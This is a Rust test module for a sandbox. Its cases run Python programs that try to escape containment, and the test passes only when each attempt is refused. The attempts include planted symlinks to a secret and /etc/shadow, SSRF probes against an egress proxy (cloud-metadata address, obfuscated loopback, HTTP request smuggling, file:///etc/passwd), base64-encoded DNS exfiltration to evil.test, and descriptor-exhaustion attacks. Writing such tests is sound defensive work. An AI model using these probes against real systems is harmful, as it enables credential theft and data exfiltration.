//! Cases of several steps, or in which somebody outside takes part.

use std::{
    io,
    net::SocketAddr,
    os::unix::fs::{FileExt, MetadataExt, symlink},
    sync::Arc,
    time::Duration,
};

use async_trait::async_trait;
use kernel::{FixedClock, Timestamp};
use parking_lot::Mutex;
use sandbox::{
    Command, Process, Sandbox, TerminalSize,
    egress::{Connection, Egress, Limits, Listeners, Options, Policy, Resolver, Uplink, Verdict as Judged},
};

use crate::{
    case::{CaseLimits, Verdict},
    suite::{Place, is_gone, python, said, text},
    world::{SECRET, World, processes_with},
};

fn escaped(what: impl Into<String>) -> Verdict {
    Verdict::Escaped(what.into())
}

async fn open(world: &World) -> Place {
    Place::open(world, &world.jail, &CaseLimits::default(), |_| {}).await
}

/// Links that somebody else has put into the workspace are neither followed inside nor when the
/// workspace is handed over to the user inside.
pub async fn planted_link(world: Arc<World>) -> Verdict {
    let outside = tempfile::tempdir_in(world.root.path()).expect("a folder");
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, SECRET).expect("a secret");
    let owner = std::fs::metadata(&secret).expect("there").uid();
    let folder = world.workspace();
    symlink(&secret, folder.path().join("file")).expect("a link");
    symlink(outside.path(), folder.path().join("folder")).expect("a link");
    symlink("/etc", folder.path().join("etc")).expect("a link");
    let (path, mut limits) = (folder.path().to_owned(), CaseLimits::default());
    limits.inodes = 100;
    let place = Place::open(&world, &world.jail, &limits, |request| request.workspace = path).await;
    let result = place
        .python(
            &world,
            "for name in ('file', 'folder/secret.txt'): refused(name, 'ENOENT EACCES', read, name)\n\
             refused('new', 'ENOENT EACCES', write, 'folder/new', b'x', os.O_CREAT)\n\
             refused('shadow', 'ENOENT', read, 'etc/shadow')",
        )
        .await;
    place.session.close().await;
    if std::fs::metadata(&secret).expect("there").uid() != owner || outside.path().join("new").exists() {
        return escaped("what a link leads to was handed over or written to");
    }
    said(&result)
}

/// A snapshot reads what programs have made with the server's rights.
pub async fn snapshot(world: Arc<World>) -> Verdict {
    let place = open(&world).await;
    let result = place
        .python(
            &world,
            "os.symlink(planted['SECRET'], 'file'); os.symlink('/etc', 'folder'); os.mkfifo('pipe')\n\
             socket.socket(socket.AF_UNIX).bind('socket')\n\
             for number in range(40): os.truncate(os.open(f'hole{number}', os.O_CREAT | os.O_RDWR), 30 << 20)\n\
             end = os.open('hole0', os.O_WRONLY); os.lseek(end, (20 << 20), 0); os.write(end, b'content')\n\
             holds('it went on', True)",
        )
        .await;
    let (to, disk) = (world.root.path().join("snapshot"), place.folder.path().to_owned());
    let copied = tokio::time::timeout(Duration::from_secs(10), place.session.snapshot(to.clone())).await;
    place.session.close().await;
    let Ok(Ok(())) = copied else { return escaped(format!("it was not copied: {copied:?}")) };
    let blocks = |folder: &std::path::Path| -> u64 {
        let entries = std::fs::read_dir(folder).expect("a folder").flatten();
        entries.map(|entry| entry.path().symlink_metadata().map_or(0, |file| file.blocks() * 512)).sum()
    };
    let (original, copy) = (blocks(&disk), blocks(&to));
    let is_link = |name: &str| to.join(name).symlink_metadata().is_ok_and(|file| file.is_symlink());
    let (hole, mut content) = (std::fs::File::open(to.join("hole0")).expect("a file"), [0; 7]);
    hole.read_exact_at(&mut content, 20 << 20).expect("read");
    let is_same = &content == b"content" && hole.metadata().expect("there").len() == 30 << 20;
    let facts =
        (is_link("file"), is_link("folder"), to.join("pipe").exists(), to.join("socket").exists(), is_same);
    std::fs::remove_dir_all(&to).expect("removed");
    if facts != (true, true, false, false, true) {
        return escaped(format!("{facts:?}"));
    }
    if copy > original + (4 << 20) {
        return escaped(format!("{original} bytes became {copy}"));
    }
    said(&result)
}

/// What a program reads lies in memory that the server has made; it stays as it is.
pub async fn sealed_input(world: Arc<World>) -> Verdict {
    let place = open(&world).await;
    let program = "holds(os.readlink('/proc/self/fd/0'), 'memfd:' in os.readlink('/proc/self/fd/0'))\n\
                   refused('write', 'EBADF EPERM', os.write, 0, b'x')\n\
                   refused('again', 'EPERM EACCES', write, '/proc/self/fd/0')\n\
                   refused('truncate', 'EPERM EACCES EINVAL', os.truncate, '/proc/self/fd/0', 0)\n\
                   holds('it can be read', os.read(0, 9) == b'given')";
    let command = python(&world, program, &[], &CaseLimits::default());
    let result = place.session.execute(Command { stdin: b"given".to_vec(), ..command }, None).await;
    place.session.close().await;
    result.map_or_else(|error| escaped(error.to_string()), |result| said(&result))
}

pub async fn closed_session(world: Arc<World>) -> Verdict {
    let place = open(&world).await;
    let mark = world.mark();
    let program = "for _ in range(3): subprocess.Popen(['setsid', 'sleep', planted['MARK']])\n\
                   os.execvp('sleep', ['sleep', planted['MARK']])";
    let command =
        Command { wall: None, ..python(&world, program, &[("MARK", &mark)], &CaseLimits::default()) };
    let _process = place.session.start(command, None).await.expect("starts");
    let begun = async {
        while processes_with(&mark).len() < 4 {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    if tokio::time::timeout(Duration::from_secs(10), begun).await.is_err() {
        return escaped("it never ran");
    }
    place.session.close().await;
    if is_gone(&mark).await { Verdict::Contained } else { escaped("a program outlived its session") }
}

/// All that a process writes, until its end.
async fn read_all(process: &mut Process) -> String {
    let mut output = Vec::new();
    let reading = async {
        while let Some(chunk) = process.output.recv().await {
            output.extend(chunk.bytes);
        }
    };
    let _ = tokio::time::timeout(Duration::from_secs(15), reading).await;
    text(&output)
}

pub async fn terminal(world: Arc<World>) -> Verdict {
    let place = open(&world).await;
    let program = "holds('it has a terminal', os.isatty(0) and os.ttyname(0).startswith('/dev/pts/'))\n\
                   for request in (0x5412, 0x541c, 0x5423): refused(hex(request), 'EPERM', call, SYS_ioctl, 0, request, buffer)\n\
                   holds('others', set(os.listdir('/dev/pts')) == {'0', 'ptmx'})";
    let size = TerminalSize { rows: 24, columns: 80 };
    let command = python(&world, program, &[], &CaseLimits::default());
    let mut process = place.session.start(command, Some(size)).await.expect("starts");
    let output = read_all(&mut process).await;
    place.session.close().await;
    if output.trim() == "contained" { Verdict::Contained } else { escaped(output) }
}

/// A port that a program of one session listens on is there for that session alone.
pub async fn ports_of_others(world: Arc<World>) -> Verdict {
    let (place, other) = (open(&world).await, open(&world).await);
    let listening =
        "s = socket.create_server(('0.0.0.0', 47315)); print('ready', flush=True); time.sleep(20)";
    let mut process = place
        .session
        .start(python(&world, listening, &[], &CaseLimits::default()), None)
        .await
        .expect("starts");
    let first = tokio::time::timeout(Duration::from_secs(10), process.output.recv()).await;
    if !matches!(&first, Ok(Some(chunk)) if chunk.bytes.starts_with(b"ready")) {
        return escaped(format!("it does not listen: {first:?}"));
    }
    let is_reached_rightly = place.session.connect(47_315).await.is_ok();
    let addresses = ["127.0.0.1:47315".to_owned()].into_iter().chain(
        world.variables["HOST_ADDRESSES"]
            .split_whitespace()
            .map(|host| if host.contains(':') { format!("[{host}]:47315") } else { format!("{host}:47315") }),
    );
    for address in addresses {
        let reached = tokio::time::timeout(Duration::from_secs(2), tokio::net::TcpStream::connect(&address));
        if matches!(reached.await, Ok(Ok(_))) {
            return escaped(format!("it is reached from the host at {address}"));
        }
    }
    let result = other
        .python(
            &world,
            "for family, host in ((2, '127.0.0.1'), (2, '0.0.0.0'), (10, '::1')):\n    \
                 refused(host, 'ECONNREFUSED', socket.socket(family).connect, (host, 47315))",
        )
        .await;
    place.session.close().await;
    other.session.close().await;
    if is_reached_rightly { said(&result) } else { escaped("its own server cannot reach it") }
}

/// A session with a way out, whose every name would lead to the host's listener.
struct Outside {
    place: Place,
    egress: Egress,
    resolver: Arc<ToTheHost>,
    connections: Arc<Mutex<Vec<Connection>>>,
}

struct ToTheHost {
    address: SocketAddr,
    asked: Mutex<Vec<String>>,
}

#[async_trait]
impl Resolver for ToTheHost {
    async fn resolve(&self, name: &str, _port: u16) -> io::Result<Vec<SocketAddr>> {
        self.asked.lock().push(name.to_owned());
        Ok(vec![self.address])
    }
}

impl Outside {
    async fn open(world: &World, policy: Policy) -> Self {
        let limits = CaseLimits::default();
        let place = Place::open(world, &world.jail, &limits, |request| request.network = true).await;
        let ways = place.session.take_ways_out().expect("ways out");
        let listeners = Listeners { proxy: ways.proxy, http: ways.http, https: ways.https, dns: ways.dns };
        let port = world.listener.local_addr().expect("bound").port();
        let address = SocketAddr::from(([127, 0, 0, 1], port));
        let resolver = Arc::new(ToTheHost { address, asked: Mutex::default() });
        let connections: Arc<Mutex<Vec<Connection>>> = Arc::default();
        let events = connections.clone();
        let options = Options {
            uplink: Uplink::new(resolver.clone()),
            limits: Limits::default(),
            clock: Arc::new(FixedClock::at(Timestamp(7))),
            on_connection: Arc::new(move |connection| events.lock().push(connection)),
        };
        let egress = Egress::start(listeners, policy, options).expect("a way out");
        Self { place, egress, resolver, connections }
    }

    /// What the program said, which connections were not refused, and which names were looked up.
    async fn python(self, world: &World, program: &str) -> (Verdict, Vec<Connection>, Vec<String>) {
        let result = self.place.python(world, program).await;
        self.place.session.close().await;
        self.egress.stop().await;
        let let_through = self
            .connections
            .lock()
            .drain(..)
            .filter(|it| !matches!(it.verdict, Judged::Refused(_)))
            .collect();
        let asked = self.resolver.asked.lock().clone();
        (said(&result), let_through, asked)
    }
}

/// What the listeners answer to the many ways of asking them for something else.
pub async fn egress_proxy(world: Arc<World>) -> Verdict {
    // A rule that allows one host, and a name that leads to this machine.
    let policy = Policy::default()
        .allow("open.test".parse().expect("a rule"))
        .allow("rebind.test".parse().expect("a rule"));
    let outside = Outside::open(&world, policy).await;
    let (verdict, let_through, _) = outside.python(&world, ASKING_THE_PROXY).await;
    match verdict {
        Verdict::Contained if !let_through.is_empty() => escaped(format!("{let_through:?}")),
        verdict => verdict,
    }
}

const ASKING_THE_PROXY: &str = r"
proxy = ('127.0.0.1', int(planted['HTTP_PROXY'].rsplit(':', 1)[1]))
port = planted['HOST_PORT']
def ask(what, address, words):
    try:
        s = socket.create_connection(address, 5)
        s.sendall(words.replace('\n', '\r\n').encode())
        s.settimeout(5)
        answer = s.recv(4096).split(b'\r\n')[0]
        if b' 200 ' in answer and words.startswith('CONNECT'):
            # What is said in a tunnel to port 80 is judged request by request.
            s.sendall(b'GET / HTTP/1.1\r\nHost: rebind.test\r\n\r\n')
            answer = s.recv(4096).split(b'\r\n')[0]
    except (ConnectionError, TimeoutError) as error: answer = repr(error).encode()
    holds(f'{what}: {answer}', answer == b'' or b'Reset' in answer or answer.split()[1:2] in ([b'400'], [b'403'], [b'405'], [b'501'], [b'502']))
for host in ('127.0.0.1:' + port, '[::1]:' + port, '[::ffff:127.0.0.1]:' + port, '169.254.169.254:80', '2130706433:' + port, '0x7f.1:' + port,
             '0:' + port, 'localhost:' + port, 'evil.test:443', 'rebind.test:80', 'open.test@evil.test:443', 'open.test%00.evil.test:443', 'rebind.test:22'):
    ask('CONNECT ' + host, proxy, f'CONNECT {host} HTTP/1.1\nHost: {host}\n\n')
    ask('GET ' + host, proxy, f'GET http://{host}/latest/meta-data HTTP/1.1\nHost: {host}\n\n')
    ask('a Host header ' + host, ('203.0.113.7', 80), f'GET / HTTP/1.1\nHost: {host}\n\n')
    ask('a URL to port 80 ' + host, ('203.0.113.7', 80), f'GET http://{host}/ HTTP/1.1\nHost: {host}\n\n')
for line in ('GET file:///etc/passwd HTTP/1.1', 'GET ftp://evil.test/ HTTP/1.1', 'GET //evil.test/ HTTP/1.1', 'GET / HTTP/1.1', 'TRACE http://evil.test/ HTTP/1.1'):
    ask(line, proxy, line + '\nHost: evil.test\n\n')
ask('two hosts', proxy, 'GET http://evil.test/ HTTP/1.1\nHost: open.test\nHost: evil.test\n\n')
ask('smuggled', proxy, 'POST http://evil.test/ HTTP/1.1\nHost: evil.test\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\nGET / HTTP/1.1\n\n')
ask('SOCKS', proxy, '\5\1\0')
ask('no TLS at 443', ('203.0.113.7', 443), 'GET / HTTP/1.1\nHost: evil.test\n\n')
";

/// A name that is not allowed is not asked for outside, or it could carry letters out.
pub async fn egress_names(world: Arc<World>) -> Verdict {
    let outside = Outside::open(&world, Policy::default().allow("open.test".parse().expect("a rule"))).await;
    let (verdict, let_through, asked) = outside
        .python(
            &world,
            "for name in ('c2VjcmV0.evil.test', 'c2VjcmV0.open.test.evil.test', 'c2VjcmV0.open.test'):\n    \
                 try: found = socket.gethostbyname(name)\n    \
                 except OSError: found = None\n    \
                 holds(f'{name} is {found}', found is None)\n\
             for kind in (16, 28, 15, 255):\n    \
                 s = socket.socket(2, 2); s.settimeout(1)\n    \
                 s.sendto(b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0' + bytes([kind]) + b'\\0\\1', ('8.8.8.8', 53))\n    \
                 try: answer = s.recv(512)\n    \
                 except (TimeoutError, ConnectionError): answer = b''\n    \
                 holds(f'{answer}', len(answer) < 12 or answer[7] == 0)",
        )
        .await;
    if !asked.is_empty() || !let_through.is_empty() {
        return escaped(format!("{asked:?} were looked up, {let_through:?}"));
    }
    verdict
}

/// Where every address is loopback, a port on which nobody listens is nobody's.
pub async fn egress_ports(world: Arc<World>) -> Verdict {
    let outside = Outside::open(&world, Policy::default()).await;
    let (verdict, let_through, _) = outside
        .python(
            &world,
            "addresses = ['127.0.0.1', '203.0.113.7', '169.254.169.254', '10.0.0.1'] + planted['HOST_ADDRESSES'].split()\n\
             for host in addresses:\n    \
                 for port in (22, 25, 2375, 6443, 8080, int(planted['HOST_PORT'])):\n        \
                     s = socket.socket(10 if ':' in host else 2); s.settimeout(3)\n        \
                     refused(f'{host} {port}', 'ECONNREFUSED ENETUNREACH EADDRNOTAVAIL', s.connect, (host, port))",
        )
        .await;
    if let_through.is_empty() { verdict } else { escaped(format!("{let_through:?}")) }
}

/// The server holds a bounded part of what nobody takes, and the program waits.
pub async fn unread_output(world: Arc<World>) -> Verdict {
    let place = open(&world).await;
    let program = "written = 0\n\
                   os.set_blocking(1, False)\n\
                   until = time.monotonic() + 2\n\
                   while time.monotonic() < until and written < 1 << 28:\n    \
                       try: written += os.write(1, bytes(1 << 16))\n    \
                       except BlockingIOError: time.sleep(0.01)\n\
                   os.write(2, str(written).encode())\n\
                   os._exit(0)";
    let command = python(&world, program, &[], &CaseLimits::default());
    let mut process = place.session.start(command, None).await.expect("starts");
    tokio::time::sleep(Duration::from_secs(2)).await;
    let output = read_all(&mut process).await;
    place.session.close().await;
    match output.trim_matches('\0').parse::<u64>() {
        Ok(written) if (1..16 << 20).contains(&written) => Verdict::Contained,
        _ => escaped(format!("it wrote {}", output.trim_matches('\0'))),
    }
}

/// What one session takes of what the kernel counts for a user of the host, another still has.
pub async fn watchers(world: Arc<World>) -> Verdict {
    let taking = "kept = []\n\
                  try:\n    \
                      while len(kept) < 5000:\n        \
                          if (made := libc.inotify_init1(0)) < 0: break\n        \
                          kept.append(made)\n\
                  except OSError: pass\n\
                  print(len(kept), flush=True)\n\
                  time.sleep(15)";
    let making = "made = libc.inotify_init1(0)\n\
                  holds(f'{errno.errorcode.get(ctypes.get_errno())}', made >= 0)";
    beside(&world, taking, making).await
}

/// The kernel counts descriptors in flight for a user of the host and measures them by how many
/// files the one who sends may open. Init sends descriptors to the server.
pub async fn descriptors_in_flight(world: Arc<World>) -> Verdict {
    let taking = "import array\n\
                  kept, sent = [], 0\n\
                  null = os.open('/dev/null', os.O_RDONLY)\n\
                  beside = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [null] * 250))]\n\
                  try:\n    \
                      while sent < 1 << 20:\n        \
                          pair = socket.socketpair(); kept.append(pair)\n        \
                          pair[0].setblocking(False)\n        \
                          try:\n            \
                              while True: pair[0].sendmsg([b'x'], beside); sent += 250\n        \
                          except BlockingIOError: pass\n\
                  except OSError as error: print(errno.errorcode[error.errno], end=' ')\n\
                  print(sent, flush=True)\n\
                  time.sleep(15)";
    let working = "listener = socket.create_server(('127.0.0.1', 47316)); print('contained', flush=True); listener.accept()";
    beside(&world, taking, working).await
}

/// Runs something in a session while a program of another one holds all it could get.
async fn beside(world: &World, taking: &str, working: &str) -> Verdict {
    let greedy = open(world).await;
    let command = python(world, taking, &[], &CaseLimits::default());
    let mut process = greedy.session.start(command, None).await.expect("starts");
    let Ok(Some(taken)) = tokio::time::timeout(Duration::from_secs(15), process.output.recv()).await else {
        return escaped("nothing was taken");
    };
    let taken = text(&taken.bytes);
    let path = world.workspace();
    let request = sandbox::SessionRequest {
        workspace: path.path().to_owned(),
        limits: CaseLimits::default().of_session(),
        network: true,
        ..sandbox::SessionRequest::default()
    };
    let verdict = match world.jail.open(request).await {
        Err(error) => escaped(format!("no other session can be opened: {error:?}")),
        Ok(session) => {
            let verdict = work(world, session.as_ref(), working).await;
            session.close().await;
            verdict
        }
    };
    greedy.session.close().await;
    match verdict {
        Verdict::Escaped(what) => escaped(format!("{what} (taken: {})", taken.trim())),
        verdict => verdict,
    }
}

/// At a terminal, whose other side init sends out, and with a port that init connects to.
async fn work(world: &World, session: &dyn sandbox::Session, program: &str) -> Verdict {
    let command = python(world, program, &[], &CaseLimits::default());
    let mut process = match session.start(command, Some(TerminalSize { rows: 24, columns: 80 })).await {
        Ok(process) => process,
        Err(error) => return escaped(format!("no terminal: {error:?}")),
    };
    let Ok(Some(first)) = tokio::time::timeout(Duration::from_secs(15), process.output.recv()).await else {
        return escaped("it says nothing");
    };
    if text(&first.bytes).trim() != "contained" {
        return escaped(text(&first.bytes));
    }
    if program.contains("47316")
        && let Err(error) = session.connect(47_316).await
    {
        return escaped(format!("no connection: {error:?}"));
    }
    process.handle.kill();
    let _ = process.handle.wait().await;
    Verdict::Contained
}
